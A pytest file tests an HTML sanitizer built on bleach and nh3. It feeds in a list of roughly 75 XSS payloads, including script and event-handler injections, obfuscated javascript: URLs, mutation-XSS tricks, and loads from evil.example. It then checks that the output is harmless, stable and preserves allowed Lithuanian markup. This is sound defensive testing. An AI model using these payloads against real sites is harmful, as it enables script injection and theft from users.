"""Nothing that runs, loads or disguises itself passes the policy: bleach alone, nh3 alone, and both in a row."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from ui.clean_html import ATTRIBUTES, SCHEMES, TAGS, clean_html, clean_with_bleach, clean_with_nh3

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    '<img src="x:x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<math href=javascript:alert(1)>x</math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="http://ok.example" onclick="alert(1)">x</a>',
    '<a href="http://ok.example" style="position:fixed;inset:0">x</a>',
    '<a href="http://ok.example" target="_blank" id="main" class="button">x</a>',
    '<a href=http://ok.example/"onmouseover="alert(1)">x</a>',
    '<a href="x" href="javascript:alert(1)">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<p onmouseover=alert(1)>x</p>",
    "<b/onclick=alert(1)>x</b>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>p{background:url(https://evil.example/track)}</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p>{{ 7|add:7 }}</p><img src=x onerror=alert`1`>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<h1>x</h1><table><tr><td onclick=alert(1)>x</td></tr></table>",
    "\ufeff<script>alert(1)</script>",
    "<a href=\"https://evil.example\" download ping='https://evil.example'>x</a>",
]


class Reader(HTMLParser):
    """Collect what a browser would act upon."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.others = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def assert_harmless(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.others == []
    for tag, attributes in reader.elements:
        assert tag in TAGS
        assert {name for name, _ in attributes} <= ATTRIBUTES.get(tag, frozenset())
        for _, address in attributes:
            plain = "".join(character for character in address if character > " ")
            assert urlsplit(plain).scheme in SCHEMES | {""}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("clean", [clean_with_bleach, clean_with_nh3, clean_html])
def test_payload_becomes_harmless(clean, payload):
    assert_harmless(clean(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_twice_changes_nothing(payload):
    assert clean_html(clean_html(payload)) == clean_html(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_inside_good_text_leaves_the_text(payload):
    cleaned = clean_html(f"<p>Labas</p>{payload}")
    assert cleaned.startswith("<p>Labas</p>")
    assert_harmless(cleaned)


@pytest.mark.parametrize(
    "html",
    [
        "<p>Ąžuolas, <b>svarbu</b>, <i>kursyvas</i>, <strong>stipru</strong>, <em>pabrėžta</em></p>",
        "<ul><li>vienas</li><li>du</li></ul>",
        "<ol><li>vienas</li></ol>",
        "<p>eilutė<br>kita</p>",
        '<p><a href="https://www.e-tar.lt/portal/">aktas</a></p>',
        '<p><a href="mailto:info@pavyzdys.lt">rašyti</a> <a href="tel:116123">116 123</a></p>',
        "<p>„Kabutės“ – brūkšnys … 16&nbsp;akad. val.</p>",
        "",
    ],
)
def test_what_the_policy_allows_stays_as_it_is(html):
    assert clean_html(html) == html


def test_headings_lose_their_tag_and_keep_their_words():
    assert clean_html("<h2>Pavadinimas</h2><p>Tekstas</p>") == "Pavadinimas<p>Tekstas</p>"
